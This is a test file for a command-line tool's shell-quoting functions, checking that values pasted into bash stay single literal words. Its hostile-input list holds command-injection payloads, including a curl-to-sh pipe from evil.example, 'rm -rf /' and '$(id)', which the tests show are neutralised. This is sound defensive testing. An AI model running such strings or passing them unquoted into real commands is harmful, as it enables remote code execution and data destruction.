// Suggested commands are pasted into shells: whatever a value holds (a server's id, a path), the
// quoted word must reach the program as exactly that value, and nothing in it may run.
import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandLine, environmentLine, programWords, shellQuote } from '../../src/text/shell.js';
import { anyString } from '../support/arbitraries.js';
import { wordsOf, wordsOfEach } from '../support/shell-words.js';
import { needs } from '../support/tools.js';

const HOSTILE = [
  'key_1; curl -s evil.example | sh #',
  '$(id)',
  '`id`',
  "it's",
  'a"b',
  'with space',
  '',
  '*',
  '~root',
  '=ls',
  'a\\b',
  '$HOME',
  '!!',
  'x\'; rm -rf / #',
  "''",
  '--force',
  '-',
  'key_8576984ed62f',
  'crk_AbCd.,:@%+=/-_',
];

describe('shellQuote', () => {
  it('leaves plain words alone and quotes everything else', () => {
    expect(shellQuote('key_8576984ed62f')).toBe('key_8576984ed62f');
    expect(shellQuote('demo-running')).toBe('demo-running');
    expect(shellQuote('a b')).toBe("'a b'");
    expect(shellQuote("it's")).toBe("'it'\\''s'");
    expect(shellQuote('')).toBe("''");
    expect(shellQuote('=ls')).toBe("'=ls'");
  });

  it('a real shell reads every hostile value back as one word, exactly, without running anything', async () => {
    const words = await wordsOfEach(HOSTILE.map(shellQuote));
    HOSTILE.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
  });

  it('any string without NUL survives the shell unchanged (property)', async () => {
    // Sampled, then read back by one shell: a shell per run would cost more than the check.
    // A shell's arguments are bytes: no NUL, and no lone surrogate (it has no UTF-8 form).
    const values = fc.sample(anyString({ maxLength: 40 }).filter((s) => !s.includes('\0') && !/[\uD800-\uDFFF]/u.test(s)), 200);
    const words = await wordsOfEach(values.map(shellQuote));
    values.forEach((value, i) => expect(words[i], JSON.stringify(value)).toEqual([value]));
  });
});

describe('commandLine', () => {
  it('quotes each operand and keeps the command and flags as they are', async () => {
    const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: ['key_1; curl -s evil.example | sh #'], flags: ['--yes'] });
    expect(line).toBe("crawl keys revoke 'key_1; curl -s evil.example | sh #' --yes");
    expect(await wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', 'key_1; curl -s evil.example | sh #', '--yes']);
  });

  it('an operand that starts with "-" comes after "--", flags first, so it cannot act as an option', async () => {
    for (const id of ['--force', '-x', '--yes']) {
      const line = commandLine({ command: ['crawl', 'keys', 'revoke'], operands: [id], flags: ['--yes'] });
      expect(await wordsOf(line)).toEqual(['crawl', 'keys', 'revoke', '--yes', '--', id]);
    }
  });

  it('every hostile value stays one operand', async () => {
    const all = await wordsOfEach(HOSTILE.map((value) => commandLine({ command: ['crawl', 'job', 'status'], operands: [value] })));
    HOSTILE.forEach((value, i) => {
      const words = all[i] ?? [];
      expect(words.at(-1), JSON.stringify(value)).toBe(value);
      expect(words.slice(0, 3)).toEqual(['crawl', 'job', 'status']);
    });
  });
});

describe('read back by bash', needs('bash'), () => {

  describe('shellQuote', () => {
    it('leaves plain paths bare and quotes anything a shell would interpret', () => {
      expect(shellQuote('/home/u/.config/crawl/config.json')).toBe('/home/u/.config/crawl/config.json');
      expect(shellQuote('/tmp/a b')).toBe(`'/tmp/a b'`);
      expect(shellQuote(`it's`)).toBe(`'it'\\''s'`);
      expect(shellQuote('x; rm -rf ~')).toBe(`'x; rm -rf ~'`);
      expect(shellQuote('')).toBe(`''`);
    });

    it('any string (but NUL) pastes into bash as exactly itself', () => {
      const values = fc.sample(fc.string({ unit: fc.constantFrom(...' \'"\\$`!*?[]{}();&|<>~#%=\n\t\u001b', 'a', 'é', '-') }), 300);
      values.push('$(touch /tmp/crawl-pwned)', '`id`', "'; echo hi; '", '~root', '*', '-n');
      const script = `printf '%s\\0' ${values.map(shellQuote).join(' ')}`;
      const out = spawnSync('bash', ['-c', script], { encoding: 'utf8' });
      expect(out.status).toBe(0);
      expect(out.stdout.split('\0').slice(0, -1)).toEqual(values);
    });
  });
});

describe('programWords', () => {
  it('POSIX: each word quoted as it must be, and read back by bash as itself', async () => {
    const words = ['node', "/home/ada/it's here/bin/crawl.js"];
    const line = programWords(words);
    expect(line).toBe("node '/home/ada/it'\\''s here/bin/crawl.js'");
    expect(await wordsOf(line)).toEqual(words);
  });

  it('Windows: a path with a space in double quotes, a plain word bare', () => {
    expect(programWords(['node', 'C:\\Users\\Ada Lovelace\\crawl\\bin\\crawl.js'], 'windows')).toBe('node "C:\\Users\\Ada Lovelace\\crawl\\bin\\crawl.js"');
    expect(programWords(['npx', 'crawl'], 'windows')).toBe('npx crawl');
  });
});

describe('environmentLine', () => {
  it('POSIX: `export NAME=value ...`, and bash sets each variable to exactly its value', needs('bash'), () => {
    const variables = [['CRAWL_BASE_URL', 'http://127.0.0.1:8787'], ['CRAWL_API_KEY', 'crk_abc'], ['ODD', "it's $(id) `id`"]] as const;
    const line = environmentLine(variables);
    expect(line.startsWith('export CRAWL_BASE_URL=http://127.0.0.1:8787 CRAWL_API_KEY=crk_abc ODD=')).toBe(true);
    const r = spawnSync('bash', ['-c', `${line}\nprintf '%s\\0' "$CRAWL_BASE_URL" "$CRAWL_API_KEY" "$ODD"`], { encoding: 'utf8', env: {} });
    expect(r.stdout.split('\0').slice(0, 3)).toEqual(variables.map(([, value]) => value));
  });
});
